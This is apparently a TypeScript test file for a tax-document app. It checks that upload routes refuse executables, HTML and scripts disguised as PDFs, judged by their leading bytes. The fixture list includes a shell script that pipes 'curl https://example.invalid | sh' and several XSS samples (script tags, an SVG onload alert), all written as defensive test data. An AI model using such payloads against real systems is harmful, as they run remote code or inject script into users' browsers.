import { readdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { sql } from 'drizzle-orm';
import { beforeEach, describe, expect, it } from 'vitest';
import type { UploadResponse } from '@taxli/domain';
import { drivers, TEST_DATA_DIR, TEST_ORIGIN, useTestApp } from '../../test/build-test-app.js';
import { signIn } from '../../test/auth-helpers.js';
import { multipart, sha256, uploadParts } from '../../test/multipart.js';

// The test clock says 15 March 2026: 2025 is the year in preparation.
const YEAR = 2025;
const blobDir = join(TEST_DATA_DIR, 'blobs');
const blobCount = () => readdirSync(blobDir).length;
const bytes = (...values: number[]) => Buffer.from(values);
const text = (value: string) => Buffer.from(value, 'utf8');

/**
 * Executables and HTML by their first bytes (DECISIONS D7, storage/content-type.ts), each named as
 * a document the route would take by its name.
 */
const REFUSED: [string, Buffer][] = [
  ['MZ (Windows)', Buffer.concat([text('MZ'), bytes(0x90, 0x00, 0x03, 0x00), text(' a program')])],
  ['ELF', Buffer.concat([bytes(0x7f), text('ELF'), bytes(0x02, 0x01, 0x01, 0x00), text(' binary')])],
  ['Mach-O 32-bit', Buffer.concat([bytes(0xfe, 0xed, 0xfa, 0xce), text(' binary')])],
  ['Mach-O 64-bit', Buffer.concat([bytes(0xfe, 0xed, 0xfa, 0xcf), text(' binary')])],
  ['Mach-O 32-bit, little-endian', Buffer.concat([bytes(0xce, 0xfa, 0xed, 0xfe), text(' binary')])],
  ['Mach-O 64-bit, little-endian', Buffer.concat([bytes(0xcf, 0xfa, 0xed, 0xfe), text(' binary')])],
  ['Mach-O universal (fat)', Buffer.concat([bytes(0xca, 0xfe, 0xba, 0xbe), text(' binary')])],
  ['#! script', text('#!/bin/sh\ncurl https://example.invalid | sh\n')],
  ['<html', text('<html><body>Kontoauszug</body></html>')],
  ['<!doctype html', text('<!doctype html><title>Lohnausweis</title>')],
  ['<!DOCTYPE HTML in capitals', text('<!DOCTYPE HTML>\n<HTML><BODY>x</BODY></HTML>')],
  ['<HtMl in mixed case', text('<HtMl lang="de">x</HtMl>')],
  ['<html after white space', text(' \t\r\n\n   <html><script>alert(1)</script></html>')],
  ['<!doctype html after a byte-order mark', text('\uFEFF<!doctype html><p>x</p>')],
  ['<html after a byte-order mark and white space', text('\uFEFF\n\n  <HTML>x</HTML>')],
  ['<script', text('<script>fetch("/api/user")</script>')],
  ['<svg', text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
];

describe.each(drivers)('uploads refused by their content (%s)', (driver) => {
  const ctx = useTestApp(driver);
  let puts = 0;
  // Runs after the app of the test is built: every blob the store is asked to write is counted.
  beforeEach(() => {
    for (const file of readdirSync(blobDir)) rmSync(join(blobDir, file), { force: true });
    puts = 0;
    const blobs = ctx.app.deps.blobs;
    const put = blobs.put.bind(blobs);
    blobs.put = (key, body) => {
      puts++;
      return put(key, body);
    };
  });

  const rowCount = async () => {
    const result = (await ctx.database.db.execute(sql`select (select count(*) from documents) + (select count(*) from document_versions) as n`)) as {
      rows: { n: number | string }[];
    };
    return Number(result.rows[0]!.n);
  };

  const post = (url: string, cookie: string, parts: Parameters<typeof multipart>[0]) => {
    const { payload, contentType } = multipart(parts);
    return ctx.app.inject({ method: 'POST', url, payload, headers: { origin: TEST_ORIGIN, cookie, 'content-type': contentType } });
  };

  /** POST /api/upload as Advanced Tax Information sends it: one file, its hash in a JSON array. */
  const advancedParts = (filename: string, data: Buffer) => [
    { name: 'categoryId', value: '10' },
    { name: 'categoryName', value: 'Securities account statement' },
    { name: 'taxYear', value: String(YEAR) },
    { name: 'hashes', value: JSON.stringify([sha256(data)]) },
    { name: 'files', filename, data },
  ];

  it('POST /api/files/upload refuses each one with UNSUPPORTED_FILE_TYPE, writing no blob and no row', async () => {
    const { cookie } = await signIn(ctx, 'anna@example.ch');
    const answers = [];
    for (const [kind, data] of REFUSED) {
      const response = await post('/api/files/upload', cookie, uploadParts(1, YEAR, [{ filename: 'kontoauszug.pdf', data }]));
      const body = response.json<UploadResponse>();
      answers.push({ kind, status: response.statusCode, failedCount: body.failedCount, result: body.files[0] });
    }
    expect(answers).toEqual(
      REFUSED.map(([kind]) => ({
        kind,
        status: 200,
        failedCount: 1,
        result: { status: 'rejected', code: 'UNSUPPORTED_FILE_TYPE', reason: 'This file type is not accepted here', originalFileName: 'kontoauszug.pdf' },
      })),
    );
    expect({ rows: await rowCount(), blobs: blobCount(), puts }).toEqual({ rows: 0, blobs: 0, puts: 0 });
  });

  it('POST /api/upload refuses each one with 415 UNSUPPORTED_FILE_TYPE, writing no blob and no row', async () => {
    const { cookie } = await signIn(ctx, 'anna@example.ch');
    const answers = [];
    for (const [kind, data] of REFUSED) {
      // Named as one of the types part 2 §5 takes: the content decides.
      for (const filename of ['depot.pdf', 'notes.txt']) {
        const response = await post('/api/upload', cookie, advancedParts(filename, data));
        answers.push({ kind, filename, status: response.statusCode, code: response.json().error?.code });
      }
    }
    expect(answers).toEqual(
      REFUSED.flatMap(([kind]) => ['depot.pdf', 'notes.txt'].map((filename) => ({ kind, filename, status: 415, code: 'UNSUPPORTED_FILE_TYPE' }))),
    );
    expect({ rows: await rowCount(), blobs: blobCount(), puts }).toEqual({ rows: 0, blobs: 0, puts: 0 });
  });

  it('refuses an empty file on both routes without writing a blob', async () => {
    const { cookie } = await signIn(ctx, 'anna@example.ch');
    const dashboard = await post('/api/files/upload', cookie, uploadParts(1, YEAR, [{ filename: 'leer.pdf', data: Buffer.alloc(0) }]));
    expect(dashboard.json()).toMatchObject({ failedCount: 1, files: [{ status: 'rejected', code: 'EMPTY_FILE' }] });
    const advanced = await post('/api/upload', cookie, advancedParts('leer.pdf', Buffer.alloc(0)));
    expect({ status: advanced.statusCode, code: advanced.json().error.code }).toEqual({ status: 400, code: 'EMPTY_FILE' });
    expect({ rows: await rowCount(), blobs: blobCount(), puts }).toEqual({ rows: 0, blobs: 0, puts: 0 });
  });

  it('keeps the good files of a batch and stores only them', async () => {
    const { cookie } = await signIn(ctx, 'anna@example.ch');
    const pdf = text('%PDF-1.7\nKontoauszug UBS 2025\n%%EOF\n');
    const [, elf] = REFUSED[1]!;
    const response = await post(
      '/api/files/upload',
      cookie,
      uploadParts(1, YEAR, [
        { filename: 'tool.pdf', data: elf },
        { filename: 'ubs.pdf', data: pdf },
        { filename: 'page.pdf', data: text('\uFEFF <!DOCTYPE html>') },
      ]),
    );
    expect(response.json()).toMatchObject({
      failedCount: 2,
      files: [
        { status: 'rejected', code: 'UNSUPPORTED_FILE_TYPE', originalFileName: 'tool.pdf' },
        { status: 'fulfilled', value: { originalFileName: 'ubs.pdf', version: 1 } },
        { status: 'rejected', code: 'UNSUPPORTED_FILE_TYPE', originalFileName: 'page.pdf' },
      ],
    });
    expect({ rows: await rowCount(), blobs: blobCount(), puts }).toEqual({ rows: 2, blobs: 1, puts: 1 });
  });
});
